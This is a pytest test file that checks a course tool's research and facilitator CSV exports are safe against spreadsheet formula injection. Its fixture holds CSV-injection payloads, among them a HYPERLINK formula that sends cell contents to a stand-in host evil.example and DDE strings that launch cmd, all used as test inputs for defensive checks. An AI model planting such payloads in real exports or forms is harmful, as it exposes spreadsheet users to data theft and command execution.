"""Every CSV the project writes is formula-safe: learner text that a spreadsheet would run as a
formula (=, +, -, @, tab, CR) comes out with a leading apostrophe, in the research export and
in the facilitator's session CSV alike."""

from __future__ import annotations

import csv
import io

import pandas as pd
import pytest

from widgets.cli import main
from widgets.live.dashboard import session_csv
from widgets.spreadsheet import FORMULA_LEADS, spreadsheet_safe, spreadsheet_safe_column
from widgets.store import ResponseStore

from .conftest import KEY, _reflect

# one hostile text per leading character a spreadsheet reads as the start of a formula
HOSTILE = {
    "=": '=HYPERLINK("http://evil.example/?"&A1,"Click for your certificate")',
    "+": "+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t": "\t=1+1",
    "\r": "\r=1+1",
}


@pytest.fixture
def hostile(fresh):
    """A session whose learners (consenting) are named and wrote reflections that start
    with each formula lead."""
    with ResponseStore(fresh.url) as store:
        session = store.create_session("Formula")
        for text in HOSTILE.values():
            learner = store.create_learner(text[:40], session_code=session.code)
            store.set_research_consent(learner.id, True)
            _reflect(store, learner, text)
    return fresh.url, session


def unsafe_cells(rows: list[list[str]]) -> list[str]:
    return [cell for row in rows for cell in row if cell.startswith(FORMULA_LEADS)]


def test_research_csv_is_formula_safe(hostile, tmp_path, monkeypatch):
    """Does `course export --format csv --include-text` defuse every formula lead, keep the
    text after the apostrophe, and leave numbers as numbers?"""
    url, _ = hostile
    monkeypatch.setenv("COURSE_PSEUDONYM_KEY", KEY)
    path = tmp_path / "responses.csv"
    assert (
        main(["export", "--format", "csv", "--include-text", "-o", str(path), "--db-url", url]) == 0
    )
    raw = path.read_bytes().decode("utf-8")  # as written: no newline translation
    rows = list(csv.reader(io.StringIO(raw, newline="")))
    assert len(rows) > len(HOSTILE)
    assert unsafe_cells(rows) == []
    header = rows[0]
    texts = {row[header.index("response")] for row in rows[1:]}
    for text in HOSTILE.values():
        assert "'" + text in texts  # kept, only defused
    frame = pd.read_csv(path)
    assert pd.api.types.is_float_dtype(frame["score"])
    assert pd.api.types.is_float_dtype(frame["duration"]) and (frame["duration"] > 0).all()


def test_session_csv_is_formula_safe(hostile):
    """Does the facilitator's session CSV defuse the same names and texts?"""
    url, session = hostile
    with ResponseStore(url) as store:
        rows = list(csv.reader(io.StringIO(session_csv(store, session), newline="")))
    header = rows[0]
    names = {row[header.index("name")] for row in rows[1:]}
    assert names == {"'" + text[:40].strip() for text in HOSTILE.values()}  # names are stripped
    texts = {row[header.index("response")] for row in rows[1:]}
    assert {"'" + text for text in HOSTILE.values()} <= texts
    assert unsafe_cells(rows) == []


@pytest.mark.parametrize("lead", FORMULA_LEADS)
def test_one_rule_for_cells_and_columns(lead):
    """Do the cell rule and the vectorised column rule agree, cell by cell?"""
    values = [f"{lead}1+1", "plain", "a=b", "", None, "'already quoted"]
    column = spreadsheet_safe_column(pd.Series(values, dtype="object"))
    expected = [None if v is None else spreadsheet_safe(v) for v in values]
    assert [None if pd.isna(v) else v for v in column] == expected
    assert expected[0] == f"'{lead}1+1"


def test_numbers_are_not_text():
    """Is a negative number written as a number, not as quoted text?"""
    assert spreadsheet_safe(-1.5) == "-1.5" and spreadsheet_safe(-3) == "-3"
    assert spreadsheet_safe("-3") == "'-3"
